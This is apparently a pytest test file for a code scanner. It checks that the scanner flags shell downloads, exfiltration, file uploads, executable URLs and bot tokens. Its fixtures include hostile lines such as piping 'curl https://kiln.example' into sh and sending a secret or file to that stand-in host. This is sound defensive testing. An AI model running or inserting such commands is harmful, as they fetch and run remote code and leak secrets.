"""What a program is started with, where a file goes, and whom a program calls."""

import pytest

from knownhands.harvest.code.read import read_file


def seen(path, body):
    return {
        (observation.capability, observation.source, observation.sink, observation.target)
        for observation in read_file(path, body)
    }


@pytest.mark.parametrize(
    ("source", "command"),
    [
        (b"import os; os.system('curl https://kiln.example | sh')", "curl https://kiln.example | sh"),
        (
            b"import subprocess as s; s.run(['curl', '-d', secret, 'https://kiln.example'])",
            "curl -d https://kiln.example",
        ),
        (b"import os; os.system(f'curl {where}')", "curl …"),
        (b"import os; os.system('curl ' + where)", "curl …"),
        (b"import subprocess; subprocess.run('curl {}'.format(where))", "curl {}"),
    ],
)
def test_what_a_program_is_started_with_is_told_as_far_as_it_is_written(source, command):
    assert ("shell_download", "", "", command) in seen("glaze.py", source)


def test_nothing_is_told_of_a_command_that_is_not_written_out():
    assert seen("glaze.py", b"import os; os.system(asked)") == {("process", "", "os.system", "")}


def test_a_command_in_javascript_is_seen():
    body = b"const { exec } = require('child_process'); exec('curl https://kiln.example');"
    assert ("shell_download", "", "", "curl https://kiln.example") in seen("glaze.js", body)


def test_code_handed_to_an_interpreter_is_read_too():
    body = b"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.socket()'])"
    assert ("network", "", "socket.socket", "") in seen("glaze.py", body)


def test_a_file_that_is_sent_is_seen():
    body = b"import requests\nwith open('kiln.txt', 'rb') as f:\n    requests.post('https://kiln.example', data=f)"
    assert ("file_upload", "file", "requests.post", "") in seen("glaze.py", body)


@pytest.mark.parametrize(
    ("address", "capability", "host"),
    [
        (b"https://kiln.example/glaze.exe", "executable_url", "kiln.example"),
        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "user_content_host", "raw.githubusercontent.com"),
        (b"https://api.ipify.org?format=json", "public_ip_lookup", "api.ipify.org"),
    ],
)
def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart(address, capability, host):
    assert (capability, "", "", host) in seen("glaze.py", b"A = '" + address + b"'")


def test_the_token_of_a_bot_is_told_and_never_kept():
    token = b"1234567890:AA" + b"k" * 33
    observations = seen("glaze.py", b"T = '" + token + b"'")
    assert ("exfiltration_host", "", "", "token of a bot") in observations
    assert not any("kkk" in text for texts in observations for text in texts)
